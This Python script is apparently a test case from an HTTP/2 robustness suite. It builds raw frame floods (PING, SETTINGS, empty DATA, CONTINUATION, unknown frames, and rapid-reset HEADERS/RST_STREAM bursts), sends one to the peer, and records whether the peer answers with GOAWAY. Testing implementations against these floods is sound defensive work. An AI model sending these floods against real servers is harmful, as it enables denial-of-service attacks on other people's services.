"""P21: floods of frames that are cheap to send. Argument: which."""

from __future__ import annotations

import contextlib
import sys

from attacks.guard import insist, say
from attacks.raw import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    HEADERS,
    PING,
    RST_STREAM,
    SETTINGS,
    WIDE,
    WINDOW_UPDATE,
    Bot,
    frame,
    headers,
)

FLOODS = {
    "ping": frame(PING, 0, 0, bytes(8)) * 10_000,
    "settings": frame(SETTINGS, 0, 0, b"\0\4\0\0\xff\xff") * 10_000,
    "settings_ack": frame(SETTINGS, ACK) * 10_000,
    "empty_data": frame(DATA, 0, 1) * 10_000,
    "window": frame(WINDOW_UPDATE, 0, 1, WIDE.to_bytes(4, "big")) * 3,
    "continuation": frame(HEADERS, 0, 3, headers()) + frame(CONTINUATION, 0, 3) * 10_000,
    "unknown": frame(0x77, 0xFF, 1, bytes(100)) * 10_000,
    "rapid_reset": b"".join(
        frame(HEADERS, END_HEADERS, stream, headers()) + frame(RST_STREAM, 0, stream, bytes(4))
        for stream in range(3, 10_003, 2)
    ),
}

insist()
how = sys.argv[1]
bot = Bot()
for count, request in enumerate(bot.requests()):
    if count == 2:
        flood = FLOODS[how]
        with contextlib.suppress(OSError):
            for at in range(0, len(flood), 1 << 16):
                bot.socket.sendall(flood[at : at + (1 << 16)])
    bot.answer(request)
say({"ended": bot.status.get(1, ""), "goaway": bot.goaway})
